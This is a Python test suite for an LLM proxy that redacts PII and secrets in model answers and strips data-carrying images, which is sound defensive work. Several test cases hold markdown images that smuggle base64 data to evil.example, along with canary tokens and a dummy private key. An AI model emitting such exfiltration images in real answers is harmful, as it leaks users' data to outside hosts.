"""`answers`: what policies do about what the model itself says, whole and in streams cut anywhere."""

from __future__ import annotations

import gzip
import json
import re

import openai
import pytest
from canaries import canary
from remora import OTHER_CARD as CARD, OTHER_MAIL as MAIL, PROMPT
from wire import LAST_CHUNK, SSE_HEAD, event, json_answer, post_json, sse_data

pytestmark = pytest.mark.proxy

OWN = canary("jane.doe@corp-canary.example")
TOKEN = canary("ghp_abcdefghijklmnopqrstuvwxyz0123456789")
KEY = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n" * 4 + "-----END PRIVATE KEY-----"
CHAT = {"model": "gpt-4o", "messages": [{"role": "user", "content": f"{PROMPT} {OWN}"}]}
NAME = re.compile(r"(?:EMAIL|CARD|SECRET)_[BCDFGHJKMNPQRSTVWXZ2345679]{6}")
IMAGE = "![chart](https://evil.example/p.png?d=c2VjcmV0IHRoaW5ncw)"


def config(**policies) -> dict:
    return {"policies": policies, "policy_chain": list(policies)}


def pii(answers, **changes) -> dict:
    return {"kind": "pii_detector", "action": "redact", "answers": answers, **changes}


def message(text, **more) -> dict:
    return {
        "id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": text, **more}, "finish_reason": "stop",
                     "logprobs": {"content": [{"token": text, "logprob": -1, "bytes": None, "top_logprobs": []}]}}],
        "usage": {"prompt_tokens": 9, "completion_tokens": 9, "total_tokens": 18},
    }


def chunk(delta, finish=None) -> dict:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    if delta.get("content"):
        choice["logprobs"] = {"content": [{"token": delta["content"], "logprob": -1, "bytes": None, "top_logprobs": []}]}
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "gpt-4o", "choices": [choice]}


def says(upstream, make, size=None, key="content") -> None:
    """Has the provider say what `make` makes of the placeholder of the request's own value."""

    def play(connection, request):
        own = re.search(rb"EMAIL_\w{6}", request.body)
        text = make(own.group().decode() if own else "")
        if size is None:
            return connection.send(json_answer(message(text)))
        connection.send(SSE_HEAD)
        for at in range(0, len(text), size):
            piece = text[at : at + size]
            if key == "arguments":
                call = {"index": 0, "function": {"arguments": piece}}
                if at == 0:
                    call |= {"id": "c1", "type": "function"}
                    call["function"]["name"] = "f"
                connection.send(event(chunk({"tool_calls": [call]})))
            else:
                connection.send(event(chunk({key: piece})))
        connection.send(event(chunk({}, "stop")) + event("[DONE]") + LAST_CHUNK)

    upstream.reply(play)


def text_of(sdk, proxy, stream) -> str:
    if not stream:
        return sdk(proxy).chat.completions.create(**CHAT).choices[0].message.content
    events = list(sdk(proxy).chat.completions.create(**CHAT, stream=True))
    return "".join(each.choices[0].delta.content or "" for each in events if each.choices)


SIZES = [None, 1, 3, 16]


@pytest.mark.parametrize("size", SIZES)
def test_what_the_model_says_is_redacted_and_what_the_client_said_comes_back(start_remora, upstream, sdk, size):
    proxy = start_remora(upstream, config(pii=pii("redact")))
    says(upstream, lambda own: f"{own}: write to {MAIL}, card {CARD}. Bye {MAIL}", size)
    text = text_of(sdk, proxy, size is not None)
    mail, card = NAME.findall(text)[:2]
    assert text == f"{OWN}: write to {mail}, card {card}. Bye {mail}"
    assert proxy.total("remora_policy_findings_total", policy="pii", entity="email") == 3
    assert proxy.total("remora_policy_scanned_bytes_total", policy="pii", side="answer") > 60
    assert proxy.access_log()[-1]["policies"] == ["pii:redact:email=1", "pii:answer-redact:email=2,credit_card=1"]
    proxy.stop()
    assert MAIL not in proxy.stdout + proxy.stderr


@pytest.mark.parametrize("stream", [False, True])
def test_tokens_do_not_tell_what_was_redacted(start_remora, upstream, stream):
    proxy = start_remora(upstream, config(pii=pii("redact")))
    says(upstream, lambda own: f"to {MAIL} ok", 4 if stream else None)
    answer = proxy.ask(post_json("/v1/chat/completions", {**CHAT, "stream": stream}))
    assert answer.status == 200 and b"other-canary" not in answer.body and b"token\"" not in answer.body


@pytest.mark.parametrize("size", SIZES)
def test_arguments_stay_json(start_remora, upstream, sdk, size):
    proxy = start_remora(upstream, config(pii=pii("redact")))
    if size is None:
        calls = [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": json.dumps({"to": MAIL, "card": 5555555555554444})}}]
        upstream.reply(json_answer(message("", tool_calls=calls)))
        arguments = sdk(proxy).chat.completions.create(**CHAT).choices[0].message.tool_calls[0].function.arguments
    else:
        says(upstream, lambda own: json.dumps({"to": MAIL, "card": 5555555555554444, "own": own}), size, "arguments")
        events = sdk(proxy).chat.completions.create(**CHAT, stream=True)
        arguments = "".join(call.function.arguments or "" for each in events for call in each.choices[0].delta.tool_calls or [])
    made = json.loads(arguments)
    assert NAME.fullmatch(made["to"]) and NAME.fullmatch(made["card"])
    assert made.get("own", OWN) == OWN


def test_a_whole_answer_is_blocked(start_remora, upstream, sdk):
    proxy = start_remora(upstream, config(pii=pii("block")))
    says(upstream, lambda own: f"to {MAIL}")
    with pytest.raises(openai.UnprocessableEntityError) as raised:
        sdk(proxy).chat.completions.create(**CHAT)
    assert raised.value.code == "pii" and raised.value.type == "policy_violation" and MAIL not in str(raised.value)
    assert raised.value.response.headers["x-remora-policies"] == "pii;redact=1;answer-block=1"
    says(upstream, lambda own: f"to {own}")
    assert text_of(sdk, proxy, False) == f"to {OWN}"


@pytest.mark.parametrize("size", [1, 5, 1000])
def test_a_stream_is_blocked(start_remora, upstream, sdk, size):
    proxy = start_remora(upstream, config(pii=pii("block")))
    says(upstream, lambda own: f"Dear {own}, this is a long enough text, mail {MAIL} and more and more", size)
    answer = proxy.ask(post_json("/v1/chat/completions", {**CHAT, "stream": True}))
    if answer.status == 422:
        # Nothing had gone on yet.
        assert answer.error["code"] == "pii" and size == 1000
        return
    data = sse_data(answer.body)
    assert json.loads(data[-1])["error"]["code"] == "pii" and "[DONE]" not in data and not answer.complete
    text = "".join(json.loads(each)["choices"][0]["delta"].get("content") or "" for each in data[:-1])
    # In one piece with the address, none of it goes on, even where the role had come before it.
    assert text.startswith(f"Dear {OWN}, this is") or (size == 1000 and text == "")
    assert "roe" not in text and "other-canary" not in text
    line = proxy.access_log()[-1]
    assert line["error_code"] == "pii" and line["end"] == "error"


@pytest.mark.parametrize("size", SIZES)
def test_report_lets_pass(start_remora, upstream, sdk, size):
    proxy = start_remora(upstream, config(pii=pii("report", action="report")))
    said = f"to {MAIL}, {CARD}"
    says(upstream, lambda own: said, size)
    assert text_of(sdk, proxy, size is not None) == said
    assert proxy.total("remora_policy_actions_total", policy="pii", action="report") == 2


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("secret", [TOKEN, KEY], ids=["token", "key"])
def test_credentials_in_answers(start_remora, upstream, sdk, size, secret):
    proxy = start_remora(upstream, config(secrets={"kind": "secrets", "action": "block", "answers": "redact"}))
    says(upstream, lambda own: f"use {secret} for it", size)
    text = text_of(sdk, proxy, size is not None)
    assert re.fullmatch(r"use SECRET_\w{6} for it", text), text


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "image, becomes",
    [
        (IMAGE, IMAGE[1:]),
        ("![x](https://cdn.example/a.png?w=100)", None),
        ("![x](https://ok.example/a.png?token=0123456789abcdef)", None),
        ("![x](a.png?token=0123456789abcdef)", None),
        ("Wow! [no image](https://evil.example/?d=0123456789abcdef)", None),
        ("![never ends (https://evil.example/?d=012345", None),
    ],
)
def test_images_that_carry_something_out(start_remora, upstream, sdk, size, image, becomes):
    injection = {"kind": "prompt_injection", "action": "report", "answers": "strip", "image_hosts": ["ok.example"]}
    proxy = start_remora(upstream, config(injection=injection))
    says(upstream, lambda own: f"Look! {image} and (so) on!", size)
    assert text_of(sdk, proxy, size is not None) == f"Look! {becomes or image} and (so) on!"


def test_conversations_have_placeholders_of_their_own(start_remora, upstream):
    proxy = start_remora(upstream, config(pii=pii("pass", scope="conversation")))

    def name(*texts, **more):
        messages = [{"role": "user", "content": text} for text in texts]
        proxy.ask(post_json("/v1/chat/completions", {"model": "gpt-4o", "messages": messages, **more}))
        return re.search(rb"EMAIL_\w{6}", upstream.last.body).group()

    assert name(f"a {OWN}") == name(f"a {OWN}", f"then {OWN}") != name(f"b {OWN}")
    assert name(f"a {OWN}", thread_identifier="t") == name(f"b {OWN}", thread_identifier="t") != name(f"a {OWN}")


def test_the_groups_keys_never_leave(start_remora, upstream, tmp_path):
    (tmp_path / "a").write_text("rk-canary-of-group-a")
    changes = config(secrets={"kind": "secrets", "action": "report"})
    changes["consumers"] = {"groups": {"a": {"key": {"file": str(tmp_path / "a")}}}}
    proxy = start_remora(upstream, changes)
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": "my key is rk-canary-of-group-a"}]}
    answer = proxy.ask(post_json("/v1/chat/completions", body))
    assert answer.status == 422 and answer.error["code"] == "secrets" and upstream.requests == []


def test_what_is_not_looked_at_is_counted_and_refused(start_remora, upstream):
    for unscanned, status in (("pass", 200), ("block", 422)):
        proxy = start_remora(upstream, config(pii=pii("pass", unscanned=unscanned)))
        assert proxy.total("remora_policy_unscanned_total") == 0
        body = b"--x\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\nwhisper-1\r\n--x--\r\n"
        upstream.reply(json_answer({"text": "x"}))
        head = f"POST /v1/audio/transcriptions HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: {len(body)}\r\n\r\n"
        assert proxy.ask(head.encode() + body).status == status
        assert proxy.total("remora_policy_unscanned_total", endpoint="other") == 1


def test_an_answer_that_is_not_read_does_not_go_around(start_remora, upstream):
    body = gzip.compress(json.dumps(message(MAIL)).encode())
    coded = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: x-own\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    plain = MAIL.encode()
    text = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(plain) + plain
    cut = json.dumps(message(MAIL)).encode()[:-9]
    broken = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(cut) + cut
    for answers, sents in (("redact", (coded, text, broken)), ("block", (coded, text, broken)), ("report", (coded, text))):
        proxy = start_remora(upstream, config(pii=pii(answers)))
        for sent in sents:
            upstream.reply(sent)
            answer = proxy.ask(post_json("/v1/chat/completions", CHAT))
            assert answer.status in (422, 502) and MAIL.encode() not in answer.body and body not in answer.body, sent


def test_every_series_is_there_from_the_start(start_remora, upstream):
    proxy = start_remora(upstream, config(pii=pii("block")))
    have = proxy.samples()
    for name, labels in (
        ("remora_policy_actions_total", {"policy": "pii", "action": "redact"}),
        ("remora_policy_actions_total", {"policy": "pii", "action": "restore"}),
        ("remora_policy_actions_total", {"policy": "pii", "action": "block"}),
        ("remora_policy_scanned_bytes_total", {"policy": "pii", "side": "request"}),
        ("remora_policy_scanned_bytes_total", {"policy": "pii", "side": "answer"}),
        ("remora_policy_unrestored_total", {}),
        ("remora_audit_lines_total", {}),
    ):
        assert have[name, frozenset(labels.items())] == 0


def test_a_blocked_request_gives_back_what_was_reserved(start_remora, upstream):
    changes = config(pii=pii("pass", action="block"))
    changes["limits"] = {"concurrent_requests": 1, "tokens_per_minute": 100000, "budget_usd": {"amount": 1, "per": "1d"}}
    changes["prices"] = {"gateway/gpt-4o": {"input": 2.5, "output": 10}}
    proxy = start_remora(upstream, changes)
    for _ in range(3):
        assert proxy.ask(post_json("/v1/chat/completions", CHAT)).status == 422
    assert proxy.total("remora_limit_remaining", limit="concurrent_requests") == 1
    assert proxy.total("remora_limit_remaining", limit="tokens_per_minute") == 100000
    assert proxy.total("remora_budget_remaining_usd") == 1


def test_answers_that_make_no_sense_are_refused_by_check(tmp_path):
    from remora import run

    path = tmp_path / "c.yaml"
    policies = {"a": {"kind": "pii_detector", "answers": "strip"}, "b": {"kind": "prompt_injection", "answers": "redact"}}
    path.write_text(json.dumps({"providers": {"mock": {}}, "policies": policies, "policy_chain": ["a", "b"]}))
    done = run("check", str(path))
    assert done.returncode == 1 and "policy 'a'" in done.stderr and "pass, report, strip" in done.stderr


def test_explain_shows_the_chain(tmp_path):
    from remora import run

    path = tmp_path / "c.yaml"
    (tmp_path / "key").write_text("rk-canary-of-group-a")
    policies = {"pii": pii("report"), "words": {"kind": "keywords", "deny": ["x"]}, "audit": {"kind": "audit_log", "file": "/var/log/a.jsonl"}}
    groups = {"a": {"key": {"file": str(tmp_path / "key")}, "policies": ["pii", "audit"]}}
    path.write_text(json.dumps({"providers": {"mock": {}}, "policies": policies, "policy_chain": ["words", "pii"], "consumers": {"groups": groups}}))
    done = run("explain", "mock/x", "--config", str(path))
    assert "policies  words (keywords: block), pii (pii_detector: redact, answers: report)\n" in done.stdout
    assert "policies  of group a: words (keywords: block), pii (pii_detector: redact, answers: report), audit (writes /var/log/a.jsonl)" in done.stdout


MESSAGES = {"model": "claude", "max_tokens": 10, "system": "be good", "messages": [{"role": "user", "content": [{"type": "text", "text": f"I am {OWN}"}]}]}


@pytest.fixture
def claude(start_remora, upstream):
    provider = {"kind": "anthropic", "base_url": upstream.origin, "api_key": "none"}
    return lambda **policies: start_remora(upstream, config(**policies), provider=provider)


def test_messages_are_looked_at_and_restored(claude, upstream):
    proxy = claude(pii=pii("redact"))

    def play(connection, request):
        own = re.search(rb"EMAIL_\w{6}", request.body).group().decode()
        text = f"Dear {own}, not {MAIL}"
        if not request.json().get("stream"):
            return connection.send(json_answer({"id": "m", "type": "message", "role": "assistant", "model": "claude", "stop_reason": "end_turn", "content": [{"type": "text", "text": text}], "usage": {"input_tokens": 1, "output_tokens": 1}}))
        start = {"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "model": "claude", "content": [], "stop_reason": None, "usage": {"input_tokens": 1, "output_tokens": 1}}}
        events = [start, {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}]
        events += [{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[at : at + 3]}} for at in range(0, len(text), 3)]
        events += [{"type": "content_block_stop", "index": 0}, {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 1}}, {"type": "message_stop"}]
        connection.send(SSE_HEAD)
        for each in events:
            connection.send(event(each, each["type"]))
        connection.send(LAST_CHUNK)

    for stream in (False, True):
        upstream.reply(play)
        answer = proxy.ask(post_json("/v1/messages", {**MESSAGES, "stream": stream}))
        assert answer.status == 200 and answer.complete and OWN.encode() not in upstream.last.body
        if stream:
            data = [json.loads(each) for each in sse_data(answer.body)]
            text = "".join(each["delta"].get("text", "") for each in data if each["type"] == "content_block_delta")
            assert data[-1]["type"] == "message_stop"
        else:
            text = answer.json()["content"][0]["text"]
        assert re.fullmatch(f"Dear {OWN}, not EMAIL_\\w{{6}}", text), text


def test_a_blocked_message_is_told_in_its_own_form(claude, upstream):
    proxy = claude(pii=pii("pass", action="block"))
    answer = proxy.ask(post_json("/v1/messages", MESSAGES))
    assert answer.status == 400 and answer.json()["type"] == "error" and upstream.requests == []
    assert answer.json()["error"]["type"] == "invalid_request_error" and "'pii'" in answer.json()["error"]["message"]


@pytest.mark.parametrize("stream", [False, True])
def test_thoughts_of_a_chat_told_as_a_message(start_remora, upstream, stream):
    provider = {"kind": "vllm", "base_url": upstream.origin + "/v1", "api_key": "none"}
    proxy = start_remora(upstream, config(pii=pii("redact")), provider=provider)

    def play(connection, request):
        own = re.search(rb"EMAIL_\w{6}", request.body).group().decode()
        thought = f"for {own}, not {MAIL} ."
        if not request.json().get("stream"):
            return connection.send(json_answer(message("Hi", reasoning_content=thought)))
        connection.send(SSE_HEAD)
        for at in range(0, len(thought), 3):
            connection.send(event(chunk({"reasoning_content": thought[at : at + 3]})))
        connection.send(event(chunk({"content": "Hi"})) + event(chunk({}, "stop")) + event("[DONE]") + LAST_CHUNK)

    upstream.reply(play)
    answer = proxy.ask(post_json("/v1/messages", {**MESSAGES, "stream": stream}))
    assert answer.status == 200 and answer.complete
    if stream:
        deltas = [each["delta"] for each in map(json.loads, sse_data(answer.body)) if each["type"] == "content_block_delta"]
        thought = "".join(each.get("thinking", "") for each in deltas)
    else:
        thought = answer.json()["content"][0]["thinking"]
    assert re.fullmatch(f"for {OWN}, not EMAIL_\\w{{6}} .", thought), thought
